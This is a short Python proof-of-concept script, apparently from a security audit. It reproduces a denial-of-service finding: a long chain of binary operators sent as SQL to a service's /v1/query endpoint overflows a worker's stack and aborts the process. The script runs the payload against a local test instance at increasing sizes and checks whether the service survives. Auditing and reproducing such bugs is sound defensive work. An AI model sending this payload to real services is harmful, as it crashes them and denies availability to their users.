# FINDING: POST /v1/query (with the token) with a long chain of binary operators overflows the stack
# of a tokio worker in the service process itself -> "fatal runtime error: stack overflow, aborting".
import sys; import os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h import *
def attempt(n, op="+"):
    s = Svc(f'/tmp/h40/d8')
    sql = "SELECT " + op.join(["1"] * n)
    t0 = time.time()
    try: st, b, _ = s.req("POST", "/v1/query", json.dumps({"sql": sql}).encode(), {"content-type": "application/json"}, timeout=60); r = (st, b[:120])
    except Exception as e: r = ("EXC", str(e)[:80])
    time.sleep(0.5)
    alive = s.p.poll() is None
    print(f"terms={n} op={op!r} body={len(sql)}B -> {r} t={time.time()-t0:.2f}s alive={alive} exit={s.p.poll()}", flush=True)
    if not alive: print("   log:", [l for l in s.log().splitlines() if "overflow" in l or "fatal" in l])
    else: s.term()
    return alive
for n in [int(a) for a in sys.argv[1:]] or [1000, 3000, 10000, 30000]:
    attempt(n)
